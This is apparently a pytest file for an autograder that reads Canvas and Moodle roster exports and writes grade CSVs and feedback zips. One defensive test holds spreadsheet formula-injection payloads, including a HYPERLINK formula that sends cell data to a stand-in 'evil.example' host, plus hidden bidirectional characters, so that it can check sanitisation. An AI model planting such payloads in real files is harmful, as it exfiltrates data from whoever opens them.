"""LMS formats (autograder/lms): class lists and times read from Canvas and Moodle exports, grades and
feedback written in the forms their importers accept. Fast: files built here, nothing graded."""
import csv
import dataclasses
import datetime as dt
import re
import zipfile
from zoneinfo import ZoneInfo

import pytest

from autograder import build, lateness, lms
from autograder.grade import Result
from autograder.lms import canvas, moodle
from autograder.roster import Roster, RosterError, Student

BERLIN = ZoneInfo("Europe/Berlin")
TITLES = {a["id"]: a.get("title", "") for a in build.course_config()["assignments"]}


@pytest.fixture(autouse=True)
def course_tz(monkeypatch):
    """The course in Berlin (UTC+1 in March, +2 in July), whatever course.yml says."""
    monkeypatch.setattr(lateness, "course_timezone", lambda cfg=None: BERLIN)


def write(path, text, *, bom=False):
    path.write_bytes(("\ufeff" if bom else "").encode() + text.encode("utf-8"))
    return path


def read_csv(path):
    with open(path, newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


# ---- Canvas gradebook export ---------------------------------------------------------------------

CANVAS_EXPORT = (
    "Student,ID,SIS User ID,SIS Login ID,Section,01_perceptron Perceptron & XOR (1001),HW 2 (1002),"
    "Assignments Current Points,Current Score\n"
    ",,,,,Manual Posting,,,\n"
    "    Points Possible,,,,,16.00,29.00,(read only),(read only)\n"
    '"Smith, Bob",12345,S001,Bob.Smith@uni.edu,Section A,12.00,,12.00,75.00\n'
    '"Lovelace, Ada",12346,,alovelace,Section A and Section B,,,,\n'
    '"King, Ana",12347,S003,,Section B,,,,\n'
    '"Nobody, Zed",12348,,,Section B,,,,\n'
    '"Student, Test",99999,,,Section A,,,,\n')


def check_canvas_students(kind, students):
    assert kind == "Canvas gradebook export"
    assert [s.id for s in students] == ["bob.smith", "alovelace", "S003", "canvas-12348"]
    bob = students[0]
    assert (bob.first_name, bob.last_name, bob.canvas_user_id, bob.sis_user_id, bob.sis_login_id, bob.section) \
        == ("Bob", "Smith", "12345", "S001", "Bob.Smith@uni.edu", "Section A")
    assert bob.email == "Bob.Smith@uni.edu"
    assert students[1].section == "Section A and Section B" and students[1].email == ""
    assert "99999" not in {s.canvas_user_id for s in students}


def test_canvas_export_comma_with_bom(tmp_path):
    path = write(tmp_path / "export.csv", CANVAS_EXPORT, bom=True)
    check_canvas_students(*lms.read_roster_export(path))


def test_canvas_export_semicolon_decimal_comma(tmp_path):
    text = (CANVAS_EXPORT.replace(",", ";").replace('"Smith; Bob"', '"Smith, Bob"')
            .replace('"Lovelace; Ada"', '"Lovelace, Ada"').replace('"King; Ana"', '"King, Ana"')
            .replace('"Nobody; Zed"', '"Nobody, Zed"').replace('"Student; Test"', '"Student, Test"')
            .replace("12.00", '"12,00"').replace("16.00", "16,00"))
    path = write(tmp_path / "export.csv", text.replace("\n", "\r\n"))
    check_canvas_students(*lms.read_roster_export(path))


def test_canvas_export_first_last_name_columns(tmp_path):
    path = write(tmp_path / "export.csv", "LastName,FirstName,ID,SIS Login ID,Section,HW (1)\n"
                                          "    Points Possible,,,,,10\nKing,Ana,12347,AKing,B,\nStudent,Test,9,,,\n")
    kind, students = lms.read_roster_export(path)
    assert [(s.id, s.first_name, s.last_name, s.canvas_user_id) for s in students] == [("aking", "Ana", "King", "12347")]


def test_canvas_export_columns_found_for_the_course(tmp_path):
    table = lms.read_table(write(tmp_path / "export.csv", CANVAS_EXPORT))
    cols = canvas.assignment_columns(table, {"01_perceptron": "Perceptron & XOR", "02_backprop": "Backprop"})
    assert cols == {"01_perceptron": "01_perceptron Perceptron & XOR (1001)"}


def test_canvas_export_row_without_id_names_its_line(tmp_path):
    lines = CANVAS_EXPORT.splitlines()
    lines[5] = '"Lovelace, Ada",,,alovelace,Section A,,,,'
    with pytest.raises(RosterError, match=r"line 6: no Canvas user ID"):
        lms.read_roster_export(write(tmp_path / "export.csv", "\n".join(lines) + "\n"))


# ---- Moodle exports ------------------------------------------------------------------------------

WORKSHEET = (
    "Identifier,Full name,Email address,ID number,Status,Grade,Maximum Grade,Grade can be changed,"
    "Last modified (submission),Online text,Last modified (grade),Feedback comments\n"
    'Participant 1234567,Bob Smith,bob@uni.edu,S001,Submitted for grading,,16.00,Yes,'
    '"Friday, 5 March 2021, 2:05 PM",,-,\n'
    'Participant 7654321,Ada King Lovelace,ada@uni.edu,,Submitted for grading,,16.00,Yes,'
    '"Monday, 5 July 2021, 9:30 AM",,-,\n'
    "Participant 1111111,Zed Nobody,zed@uni.edu,,No submission,,16.00,Yes,-,,-,\n")


def test_moodle_worksheet_gives_participant_ids(tmp_path):
    path = write(tmp_path / "worksheet.csv", WORKSHEET, bom=True)
    kind, students = lms.read_roster_export(path, "03_softmax")
    assert kind == "Moodle grading worksheet"
    assert [s.id for s in students] == ["S001", "ada", "zed"]
    assert [s.moodle_participant("03_softmax") for s in students] == ["1234567", "7654321", "1111111"]
    assert students[0].moodle_participant("04_weight_init") == ""
    assert (students[1].first_name, students[1].last_name, students[1].email) == ("Ada King", "Lovelace", "ada@uni.edu")
    assert students[0].sis_user_id == "S001"
    with pytest.raises(RosterError, match="assignment"):
        lms.read_roster_export(path)


def test_moodle_worksheet_times_in_course_timezone(tmp_path):
    path = write(tmp_path / "worksheet.csv", WORKSHEET)
    _, students = lms.read_roster_export(path, "03_softmax")
    ada = students[1]
    ada.moodle_participants = ""          # no participant id: found by email instead
    times = lms.read_times(path, "03_softmax", Roster(students))
    assert set(times) == {"S001", "ada"}  # Zed: `-`, no submission
    assert times["S001"] == dt.datetime(2021, 3, 5, 13, 5, tzinfo=dt.timezone.utc)    # CET, +1
    assert times["ada"] == dt.datetime(2021, 7, 5, 7, 30, tzinfo=dt.timezone.utc)     # CEST, +2
    assert times["S001"].tzinfo is not None

    unknown = Roster([s for s in students if s.id != "S001"])
    with pytest.raises(RosterError, match="line 2: participant 1234567"):
        lms.read_times(path, "03_softmax", unknown)
    bad = write(tmp_path / "bad.csv", WORKSHEET.replace("Monday, 5 July 2021, 9:30 AM", "5/7/2021 9:30"))
    with pytest.raises(RosterError, match="line 3: .*not a Moodle date"):
        lms.read_times(bad, "03_softmax", Roster(students))


def test_moodle_dates_round_trip():
    when = dt.datetime(2027, 3, 9, 0, 7)
    assert moodle.format_date(when) == "Tuesday, 9 March 2027, 12:07 AM"
    assert moodle.format_date(dt.datetime(2027, 3, 9, 14, 0)) == "Tuesday, 9 March 2027, 2:00 PM"
    assert moodle.parse_date(moodle.format_date(when)) == when
    assert moodle.parse_date("Friday, 05 March 2021, 12:05 PM") == dt.datetime(2021, 3, 5, 12, 5)


def test_generic_times_csv(tmp_path):
    roster = Roster([Student("bob", email="bob@uni.edu"), Student("ada", sis_login_id="alovelace")])
    path = write(tmp_path / "times.csv", "student,submitted_at\nbob@uni.edu,2027-03-09T23:59:00\n"
                                         "alovelace,2027-03-09T22:00:00+00:00\n")
    times = lms.read_times(path, "03_softmax", roster)
    assert times == {"bob": dt.datetime(2027, 3, 9, 23, 59, tzinfo=BERLIN),
                     "ada": dt.datetime(2027, 3, 9, 22, 0, tzinfo=dt.timezone.utc)}
    assert times["bob"].utcoffset() == dt.timedelta(hours=1)
    with pytest.raises(RosterError, match="line 3: no student 'carl'"):
        lms.read_times(write(tmp_path / "t2.csv", "student,submitted_at\nbob,2027-03-09T23:59\n"
                                                  "carl,2027-03-09T23:59\n"), "03_softmax", roster)
    with pytest.raises(RosterError, match="line 2: .*ISO 8601"):
        lms.read_times(write(tmp_path / "t3.csv", "student,submitted_at\nbob,yesterday\n"), "03_softmax", roster)


def test_moodle_participants_exports(tmp_path):
    path = write(tmp_path / "p.csv", "First name,Last name,ID number,Email address,Groups\n"
                                     "Bob,Smith,S001,bob@uni.edu,Group A\n"
                                     "Ada,Lovelace,,ada@uni.edu,No groups\n")
    kind, students = lms.read_roster_export(path)
    assert kind == "Moodle participants export"
    assert [(s.id, s.first_name, s.last_name, s.email, s.section) for s in students] == [
        ("S001", "Bob", "Smith", "bob@uni.edu", "Group A"), ("ada", "Ada", "Lovelace", "ada@uni.edu", "")]

    path = write(tmp_path / "p2.csv", "username,firstname,lastname,email\nbsmith,Bob,Smith,bob@uni.edu\n")
    (bob,) = lms.read_roster_export(path)[1]
    assert (bob.id, bob.sis_login_id, bob.last_name) == ("bsmith", "bsmith", "Smith")

    path = write(tmp_path / "p3.csv", "Full name;Email address\nAda King Lovelace;ada@uni.edu\n;\nZed;\n")
    with pytest.raises(RosterError, match="line 4: no ID number, username or email"):
        lms.read_roster_export(path)


def test_unknown_header_says_what_is_expected(tmp_path):
    path = write(tmp_path / "x.csv", "name,score\nBob,3\n")
    with pytest.raises(RosterError) as err:
        lms.read_roster_export(path)
    assert "name, score" in str(err.value) and "Canvas gradebook export (Student, ID" in str(err.value)
    assert "Moodle grading worksheet (Identifier" in str(err.value)
    with pytest.raises(RosterError, match="student,submitted_at"):
        lms.read_times(path, "03_softmax", Roster())
    xlsx = tmp_path / "x.xlsx"
    xlsx.write_bytes(b"PK\x03\x04rest")
    with pytest.raises(RosterError, match="not CSV"):
        lms.read_roster_export(xlsx)


# ---- grades --------------------------------------------------------------------------------------

def roster_and_results():
    bob = Student("bob", "Bob", "Smith", "bob@uni.edu", "A", canvas_user_id="12345", sis_user_id="S001",
                  sis_login_id="bsmith")
    ada = Student("ada", "Ada", "Lovelace", "ada@uni.edu", "B", canvas_user_id="12346")
    zed = Student("zed", "Zed", "Nobody", "", "B")                      # no Canvas id, no email
    carl = Student("carl", "Carl", "Gauss", "carl@uni.edu", "A", canvas_user_id="12347")
    for s, pid in ((bob, "111"), (ada, "222"), (carl, "333")):
        s.set_moodle_participant("03_softmax", pid)
    submitted = dt.datetime(2027, 3, 10, 10, 5)        # naive UTC, as nbgrader keeps it
    rows = [Result("bob", "03_softmax", 10.8, 16.0, 1.2, 36000.0, submitted, False),
            Result("bob", "01_perceptron", 16.0, 16.0, 0.0, 0.0, submitted, False),
            Result("ada", "03_softmax", 8.0, 16.0, 0.0, 0.0, submitted, True),
            Result("zed", "03_softmax", 15.0, 16.0, 0.0, 0.0, None, False),
            Result("ghost", "03_softmax", 16.0, 16.0, 0.0, 0.0, None, False)]
    return Roster([bob, ada, zed, carl]), rows


def test_canvas_grades_csv(tmp_path, capsys):
    roster, rows = roster_and_results()
    path = canvas.grades_csv(rows, roster, tmp_path / "grades.csv")
    table = read_csv(path)
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section",
                        f"01_perceptron {TITLES['01_perceptron']}", f"03_softmax {TITLES['03_softmax']}"]
    assert table[1] == ["    Points Possible", "", "", "", "", "16", "16"]
    assert table[2:] == [["Gauss, Carl", "12347", "", "", "A", "", ""],       # no submission: blank
                         ["Lovelace, Ada", "12346", "", "", "B", "", ""],      # pending: blank
                         ["Smith, Bob", "12345", "S001", "bsmith", "A", "16", "10.8"]]
    status = read_csv(tmp_path / "grades_status.csv")
    assert status[0] == ["student", "assignment", "status", "score", "max_score", "late_penalty"]
    got = {(r[0], r[1]): r[2:] for r in status[1:]}
    assert got[("bob", "03_softmax")] == ["graded", "10.8", "16", "1.2"]
    assert got[("ada", "03_softmax")] == ["waiting for manual grading", "8", "16", "0"]
    assert got[("carl", "03_softmax")] == ["no submission", "", "16", ""]
    assert got[("ghost", "03_softmax")][0] == "not uploaded: not in the roster"
    assert got[("zed", "03_softmax")][0] == "not uploaded: no Canvas user id in the roster"
    out = capsys.readouterr().out
    assert "ghost (not in the roster)" in out and "zed (" in out and "ada 03_softmax" in out

    # an existing Canvas column is named as Canvas exported it
    canvas.grades_csv(rows, roster, tmp_path / "g2.csv", columns={"03_softmax": "Softmax (2001)"})
    assert read_csv(tmp_path / "g2.csv")[0][-1] == "Softmax (2001)"


def test_moodle_worksheet_csv(tmp_path, capsys):
    roster, rows = roster_and_results()
    roster.students[0].last_name = 'Smith, "Jr."'        # a comma and quotes: CSV quoting
    now = dt.datetime(2027, 3, 12, 8, 3, tzinfo=dt.timezone.utc)
    path = moodle.worksheet_csv(rows, roster, "03_softmax", tmp_path / "ws.csv", now=now)
    table = read_csv(path)
    assert table[0] == ["Identifier", "Full name", "Email address", "Status", "Grade", "Maximum Grade",
                        "Grade can be changed", "Last modified (submission)", "Last modified (grade)",
                        "Feedback comments"]
    rows_by_id = {r[0]: dict(zip(table[0], r)) for r in table[1:]}
    assert set(rows_by_id) == {"Participant 111", "Participant 222", "Participant 333"}
    bob = rows_by_id["Participant 111"]
    assert bob["Full name"] == 'Bob Smith, "Jr."'
    assert (bob["Status"], bob["Grade"], bob["Maximum Grade"], bob["Grade can be changed"]) == \
        ("Graded", "10.8", "16", "Yes")
    assert bob["Last modified (submission)"] == "Wednesday, 10 March 2027, 11:05 AM"    # 10:05 UTC in Berlin
    assert bob["Last modified (grade)"] == "Friday, 12 March 2027, 9:03 AM"
    assert bob["Feedback comments"] == "Graded 12/16; 10 h late: -1.2; final 10.8/16"
    ada = rows_by_id["Participant 222"]
    assert (ada["Status"], ada["Grade"], ada["Last modified (grade)"], ada["Feedback comments"]) == \
        ("Waiting for manual grading", "", "-", "")
    carl = rows_by_id["Participant 333"]
    assert (carl["Status"], carl["Grade"], carl["Last modified (submission)"], carl["Maximum Grade"]) == \
        ("No submission", "", "-", "16")
    assert "ghost" in capsys.readouterr().out


def test_moodle_gradebook_csv(tmp_path):
    roster, rows = roster_and_results()
    table = read_csv(moodle.gradebook_csv(rows, roster, tmp_path / "gb.csv"))
    assert table[0] == ["Email address", "ID number", f"01_perceptron {TITLES['01_perceptron']}",
                        f"03_softmax {TITLES['03_softmax']}"]
    assert table[1:] == [["carl@uni.edu", "", "", ""], ["ada@uni.edu", "", "", ""],
                         ["bob@uni.edu", "S001", "16", "10.8"]]


def test_export_grades_dispatch(tmp_path, capsys):
    roster, rows = roster_and_results()
    paths = lms.export_grades(rows, roster, tmp_path, "moodle")
    assert [p.name for p in paths] == ["moodle_01_perceptron_worksheet.csv", "moodle_03_softmax_worksheet.csv",
                                       "moodle_gradebook.csv"]
    assert [p.name for p in lms.export_grades(rows, roster, tmp_path, "canvas")] == \
        ["canvas_grades.csv", "canvas_grades_status.csv"]
    with pytest.raises(ValueError, match="unknown LMS 'blackboard'"):
        lms.export_grades(rows, roster, tmp_path, "blackboard")


# ---- feedback zips -------------------------------------------------------------------------------

def feedback_course(tmp_path, students):
    course = tmp_path / "course"
    for s in students:
        html = course / "feedback" / s / "03_softmax" / "03_softmax.html"
        html.parent.mkdir(parents=True)
        html.write_text(f"<p>feedback for {s}</p>")
    return course


def canvas_reupload_ids(name):
    """Canvas' re-upload: the first two all-digit `_` tokens are user id and attachment id."""
    digits = [t for t in name.split("_") if re.fullmatch(r"\d+", t)]
    return tuple(digits[:2])


def test_canvas_feedback_zip(tmp_path, capsys):
    roster, _ = roster_and_results()
    roster.students[1].last_name = "O'Brien-Lovelace"
    course = feedback_course(tmp_path, ["bob", "ada", "zed"])
    manifest = {
        "bob": {"origin": "x.zip", "name": "smithbob_LATE_12345_987654_03_softmax.ipynb", "submitted_at": None,
                "time_source": "", "late_marker": True,
                "lms": {"canvas_user_id": "12345", "canvas_attachment_id": "987654",
                        "lms_file": "smithbob_LATE_12345_987654_03_softmax.ipynb"}},
        "ada": {"origin": "x.zip", "name": "a.ipynb", "submitted_at": None, "time_source": "", "late_marker": False,
                "lms": {"canvas_user_id": "12346", "canvas_attachment_id": "555"}},
        "zed": {"origin": "folder", "name": "zed.ipynb", "submitted_at": None, "time_source": "",
                "late_marker": False, "lms": {}},
        "carl": {"origin": "x.zip", "name": "c.ipynb", "submitted_at": None, "time_source": "", "late_marker": False,
                 "lms": {"canvas_user_id": "12347", "canvas_attachment_id": "777",
                         "lms_file": "gausscarl_12347_777_c.ipynb"}},
    }
    path = lms.export_feedback(course, "03_softmax", roster, manifest, tmp_path / "out", "canvas")
    assert path.name == "03_softmax_canvas_feedback.zip"
    with zipfile.ZipFile(path) as z:
        names = sorted(z.namelist())
        assert z.read("smithbob_LATE_12345_987654_feedback.html") == b"<p>feedback for bob</p>"
    assert names == ["obrienlovelaceada_12346_555_feedback.html", "smithbob_LATE_12345_987654_feedback.html"]
    assert {canvas_reupload_ids(n) for n in names} == {("12345", "987654"), ("12346", "555")}
    out = capsys.readouterr().out
    assert "zed (no Canvas" in out and "carl (no feedback" in out


def test_moodle_feedback_zip(tmp_path, capsys):
    roster, _ = roster_and_results()
    course = feedback_course(tmp_path, ["bob", "ada", "zed"])
    manifest = {
        "bob": {"origin": "m.zip", "name": "nb.ipynb", "submitted_at": None, "time_source": "", "late_marker": False,
                "lms": {"moodle_participant": "999", "moodle_name": "Bob_Smith Jr", "lms_file": "nb.ipynb"}},
        "ada": {"origin": "folder", "name": "nb.ipynb", "submitted_at": None, "time_source": "", "late_marker": False,
                "lms": {}},                       # the roster's participant id for 03_softmax: 222
        "zed": {"origin": "folder", "name": "nb.ipynb", "submitted_at": None, "time_source": "", "late_marker": False,
                "lms": {}},                       # none: skipped
    }
    path = lms.export_feedback(course, "03_softmax", roster, manifest, tmp_path / "out", "moodle")
    with zipfile.ZipFile(path) as z:
        names = sorted(z.namelist())
        assert z.read(names[0]) == b"<p>feedback for ada</p>"
    assert names == ["Ada Lovelace_222_assignfeedback_file_feedback.html",
                     "Bob Smith Jr_999_assignfeedback_file_feedback.html"]
    for name in names:   # Moodle: explode('_', $name, 5); [1] a participant, [2]_[3] a plugin, rest the file
        pieces = name.split("_", 4)
        assert len(pieces) == 5 and pieces[1].isdigit() and pieces[1] in {"222", "999"}
        assert f"{pieces[2]}_{pieces[3]}" == "assignfeedback_file" and pieces[4] == "feedback.html"
        assert not name.startswith((".", "~"))
    assert "zed (no participant id" in capsys.readouterr().out


# ---- what students control (their names) in the files an instructor opens or uploads --------------

FORMULAS = ['=HYPERLINK("evil.example?"&A1,"x")', "+1+1", "@SUM(1)", "-2+3", " =1", "\uff1d1"]


def test_grade_exports_hold_no_spreadsheet_formula(tmp_path, capsys):
    """Names and sections come from the LMS, where students may set their names: in the CSV files an
    instructor opens in a spreadsheet they start with `'` where they would start a formula (Moodle's
    `-`, no date, is no formula). Key
    columns (Canvas ID, Identifier, email in the gradebook import) are written as they are."""
    roster, rows = roster_and_results()
    for s, evil in zip(roster.students, FORMULAS):
        s.first_name, s.last_name, s.section = evil, evil, evil
    roster.students[2].id = "@zed"      # (an id may start with `@`)
    rows = [dataclasses.replace(r, student="@zed") if r.student == "zed" else r for r in rows]
    files = [canvas.grades_csv(rows, roster, tmp_path / "grades.csv"), tmp_path / "grades_status.csv",
             moodle.worksheet_csv(rows, roster, "03_softmax", tmp_path / "ws.csv")]
    for path in files:
        cells = [c for row in read_csv(path) for c in row]
        bad = [c for c in cells if c != "-" and c.lstrip(" ").startswith(("=", "+", "-", "@", "\uff1d"))]
        assert not bad, f"{path.name}: {bad}"
    canvas_rows = read_csv(files[0])[2:]
    assert {r[1] for r in canvas_rows} == {"12345", "12346", "12347"}        # the ids Canvas matches by
    assert f"'{FORMULAS[0]}, {FORMULAS[0]}" in [r[0] for r in canvas_rows]
    ws = {r[0]: r for r in read_csv(files[2])[1:]}
    assert ws["Participant 111"][1] == f"'{FORMULAS[0]} {FORMULAS[0]}"
    assert "'@zed" in [r[0] for r in read_csv(files[1])[1:]]


def test_feedback_names_fit_a_file_name_and_keep_the_ids(tmp_path, capsys):
    """A long display name (Moodle allows 100 characters each for first and last name, in any script)
    or one with invisible bidirectional characters: the feedback file's name still fits in 255 bytes,
    keeps what the LMS matches by, and shows no hidden characters."""
    long_name = "\u202e" + "Ä" * 100 + " " + "Ω" * 100
    assert len(moodle.feedback_name(long_name, "1234567").encode()) <= 255
    name = moodle.feedback_name(long_name, "1234567")
    assert "\u202e" not in name and name.split("_", 4)[1:] == ["1234567", "assignfeedback", "file", "feedback.html"]
    assert moodle.feedback_name("\u202e\u200b", "5") == "Participant_5_assignfeedback_file_feedback.html"
    roster, _ = roster_and_results()
    course = feedback_course(tmp_path, ["bob"])
    lms_file = "ä" * 200 + "_LATE_12345_987654_03_softmax.ipynb"
    manifest = {"bob": {"origin": "x.zip", "name": "x.ipynb", "submitted_at": None, "time_source": "",
                        "late_marker": True, "lms": {"canvas_user_id": "12345", "canvas_attachment_id": "987654",
                                                     "lms_file": lms_file}}}
    path = lms.export_feedback(course, "03_softmax", roster, manifest, tmp_path / "out", "canvas")
    with zipfile.ZipFile(path) as z:
        [name] = z.namelist()
    assert len(name.encode()) <= 255 and name.endswith("_LATE_12345_987654_feedback.html")
    assert canvas.reupload_ids(name) == ("12345", "987654")
